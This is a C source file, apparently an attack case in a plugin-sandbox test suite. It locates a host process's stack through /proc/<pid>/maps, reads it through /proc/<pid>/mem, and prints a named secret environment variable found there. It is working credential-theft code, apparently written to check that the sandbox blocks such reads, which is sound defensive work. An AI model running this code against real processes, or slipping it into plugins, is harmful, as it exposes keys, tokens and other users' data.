/*
 * leak_host_mem — finds the host's stack in /proc/<host_pid>/maps and reads it
 * through /proc/<host_pid>/mem, then returns the token_env variable found among
 * the strings at its top. /proc/<pid>/mem is the whole address space of the host:
 * keys, decrypted data, other plugins' inputs.
 */
#include "attack.h"

static sbx_status attack(const atk_input *in, atk_out *out)
{
    static char stack[1 << 20];
    char path[64];
    char line[512];
    char name[256];
    char needle[260];
    unsigned long start = 0, end = 0;
    long host = atk_param_long(in, "host_pid", -1);
    if (host <= 0 || !atk_param(in, "token_env", name, sizeof name)) {
        return SBX_ERR_INVALID_ARGUMENT;
    }
    snprintf(path, sizeof path, "/proc/%ld/maps", host);
    FILE *maps = fopen(path, "re");
    if (maps == NULL) {
        atk_failed(out, path, errno);
        return SBX_ERR_INTERNAL;
    }
    while (fgets(line, sizeof line, maps) != NULL) {
        if (strstr(line, "[stack]") != NULL && sscanf(line, "%lx-%lx", &start, &end) == 2) {
            break;
        }
    }
    fclose(maps);
    if (end <= start) {
        atk_printf(out, "failed: no [stack] in the host's maps\n");
        return SBX_ERR_INTERNAL;
    }
    snprintf(path, sizeof path, "/proc/%ld/mem", host);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
        atk_failed(out, path, errno);
        return SBX_ERR_INTERNAL;
    }
    size_t len = end - start < sizeof stack ? end - start : sizeof stack;
    ssize_t got = pread(fd, stack, len, (off_t)(end - len));
    close(fd);
    if (got <= 0) {
        atk_failed(out, "pread mem", got < 0 ? errno : EIO);
        return SBX_ERR_INTERNAL;
    }
    atk_gained(out, "read %zd bytes of the host's memory", got);
    snprintf(needle, sizeof needle, "%s=", name);
    char *hit = memmem(stack, (size_t)got, needle, strlen(needle));
    if (hit != NULL) {
        atk_printf(out, "host memory: %.*s\n", (int)strnlen(hit, 300), hit);
    }
    return SBX_OK;
}

ATK_INVOKE_PLUGIN(attack)
